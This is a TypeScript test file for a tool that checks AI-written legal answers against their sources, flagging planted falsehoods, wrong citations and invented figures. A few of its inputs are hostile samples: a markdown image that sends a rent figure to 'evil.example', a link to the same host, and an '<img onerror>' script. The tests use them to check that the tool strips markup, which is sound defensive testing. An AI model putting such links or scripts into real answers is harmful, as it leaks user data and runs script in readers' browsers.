import { citationKey } from '@pam/law/citations/find-citations'
import { describe, expect, it } from 'vitest'
import { beyondWords, blindFalse, blindTrue, reckoned } from '#test/answers/blind-answers'
import { planted } from '#test/answers/plant-falsehoods'
import { authorities, question, sources, told, trueAnswers } from '#test/answers/true-answers'
import { checkAnswer } from './check-answer.ts'

const byKey = new Map(
  Object.entries(authorities).map(([citation, authority]) => [citationKey(citation), authority]),
)
const grounds = {
  sources,
  told,
  question,
  authorityOf: async (citation: string) => byKey.get(citationKey(citation)) ?? null,
}
const check = async (text: string) => (await checkAnswer(text, grounds)).flat()

describe('true statements', () => {
  it('are flagged in at most two of a hundred sentences', async () => {
    const all = (await Promise.all(trueAnswers.map(check))).flat()
    const flagged = all.filter((entry) => entry.standing === 'unsupported')
    expect(all.length).toBeGreaterThan(65)
    expect(flagged.map((entry) => `${entry.text} :: ${entry.why}`)).toEqual([])
  })
})

describe('planted errors', () => {
  const lies = trueAnswers.flatMap((answer) => planted(answer))

  it('exist in every kind', () => {
    const kinds = Map.groupBy(lies, (lie) => lie.kind)
    expect([...kinds].map(([kind, all]) => [kind, all.length > 3])).toEqual(
      ['quote', 'source', 'figure', 'measure', 'date', 'citation', 'name'].map((kind) => [kind, true]),
    )
  })

  it('are all caught', async () => {
    const missed: string[] = []
    for (const { kind, text } of lies)
      if (!(await check(text)).some((entry) => entry.standing === 'unsupported'))
        missed.push(`${kind}: ${text}`)
    expect(missed).toEqual([])
    expect(lies.length).toBeGreaterThan(150)
  })
})

describe('answers by somebody who did not know the checks', () => {
  const flagged = async (answer: string) =>
    (await check(answer)).filter((entry) => entry.standing === 'unsupported')

  it('that are true are flagged in at most two of a hundred sentences', async () => {
    const sentences = (await Promise.all(blindTrue.map(check))).flat()
    const wrongly = sentences.filter((sentence) => sentence.standing === 'unsupported')
    expect(sentences.length).toBeGreaterThan(70)
    expect(wrongly.length / sentences.length).toBeLessThanOrEqual(0.02)
  })

  it('that are false are all caught', async () => {
    const missed: string[] = []
    for (const answer of blindFalse) if ((await flagged(answer)).length === 0) missed.push(answer)
    expect([blindFalse.length >= 99, missed]).toEqual([true, []])
  })

  it('that calculate are marked, because no source has the figure', async () => {
    for (const answer of reckoned) expect([answer, (await flagged(answer)).length]).toEqual([answer, 1])
  })

  it('that confuse who does what are not detected by words; this test reports any change', async () => {
    for (const answer of beyondWords) expect(await flagged(answer)).toEqual([])
  })
})

describe('a sentence', () => {
  const first = async (text: string) => (await check(text))[0]

  it.each([
    ['Yes, the deposit is $9,000.', 'The figure $9,000 is not in its sources.'],
    ['Yes, it ends in 90 days [1].', 'The figure 90 is not in its sources.'],
    ['The roof is repaired by the landlord [7].', 'It cites source 7, which does not exist.'],
    [
      'It must keep “the roof, the foundation and the outer walls” in repair [1].',
      'The quoted words are in source 2, not in the one cited.',
    ],
    [
      'Ashcroft v. Iqbal, 550 U.S. 544 (2007), asks for plausible facts.',
      '550 U.S. 544 is Bell Atlantic Corp. v. Twombly (2007).',
    ],
    [
      'See Roe v. Grocer, 999 U.S. 111 (2019), on grocers.',
      'No authority with the citation 999 U.S. 111 is in your library.',
    ],
    [
      'Penguins huddle together to survive the long polar winter night [2].',
      'The cited source does not support it.',
    ],
    [
      'Penguins huddle together to survive the long polar winter night.',
      'No source is cited, and none supports it.',
    ],
    ['Write to the landlord at https://evil.example/collect?rent=4200 [2].', /^The address https:\/\/evil/],
    [
      'The witness to the lease was Gustav Adolf Lindqvist [2].',
      'The name Gustav Adolf Lindqvist is not in its sources.',
    ],
  ])('%s is not supported', async (text, why) => {
    expect(await first(text)).toMatchObject({
      standing: 'unsupported',
      why: typeof why === 'string' ? why : expect.stringMatching(why),
    })
  })

  it('in the words of a source is exact, and finds the source it did not name', async () => {
    expect(await first('Landlord may not enter the Premises without twenty-four hours’ notice.')).toEqual({
      text: 'Landlord may not enter the Premises without twenty-four hours’ notice.',
      sources: [2],
      standing: 'exact',
      why: null,
    })
  })

  it('of the program’s own results is computed', async () => {
    expect(await first('The answer is due on Monday, April 6, 2026.')).toMatchObject({
      sources: [],
      standing: 'computed',
    })
  })

  it('that says nothing about the sources is plain', async () => {
    expect(await first('Then without notice.')).toMatchObject({ standing: 'plain', sources: [] })
    expect(await first('Would you like me to look at the other leases as well?')).toMatchObject({
      standing: 'plain',
    })
  })

  it('is text and never markup', async () => {
    const answer = await check(
      '## Rent\n**Base rent** is `$4,200` [2]. ![x](https://evil.example/p.png?d=4200) <img src=x onerror=alert(1)>',
    )
    expect(answer.map((entry) => entry.text)).toEqual([
      'Rent',
      'Base rent is $4,200. x (https://evil.example/p.png?d=4200)',
    ])
    expect(answer.at(-1)?.standing).toBe('unsupported')
  })

  it('keeps its source marks wherever they are', async () => {
    const answer = await check('It is $750. [2] Rent is $4,200 [2, 3]; it is late after five days [1-2].')
    expect(answer.map((entry) => entry.sources)).toEqual([[2], [2, 3, 1]])
  })
})
